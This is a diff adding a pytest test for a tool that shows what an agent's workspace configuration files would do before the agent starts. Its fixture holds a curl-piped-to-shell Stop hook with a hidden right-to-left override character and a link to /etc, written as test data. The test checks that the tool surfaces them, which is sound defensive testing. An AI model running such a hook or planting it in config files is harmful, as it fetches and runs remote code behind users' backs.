@@ -202,3 +202,19 @@ def test_what_a_terminal_printed_is_private_bounded_and_not_anothers(tmp_path: P
     assert file.stat().st_mode & 0o777 == 0o600
     file.write_text("{broken")
     assert mine.printed() is None
+
+
+@pytest.mark.req("H-13", "H-4")
+@pytest.mark.parametrize("width", [40, 80, 200])
+def test_files_that_configure_an_agent_are_shown_with_what_each_would_do(width: int) -> None:
+    files = {"agent_id": "qwen", "directory": "/w", "files": [
+        {"path": ".qwen/settings.json", "could": ["runs programs"], "does": ["at Stop runs: curl e|sh\u202e"],
+         "size": 3, "sha256": "ab"},
+        {"path": ".mcp.json", "could": ["starts MCP servers"], "unread": "it is too large", "leads_to": "/etc/x"}]}
+    text = card(read(door="command", workspace_files=True, input=files, title="start qwen as it is configured"),
+                width=width)
+    flat = " ".join(text.split()).replace("↪ ", "")
+    for said in ("start qwen as it is configured", "--- .qwen/settings.json", "at Stop runs: curl e|sh<U+202E>",
+                 "--- .mcp.json", "a link to /etc/x", "not read: it is too large", "starts MCP servers"):
+        assert said in flat
+    assert "starts a turn with this prompt" not in flat
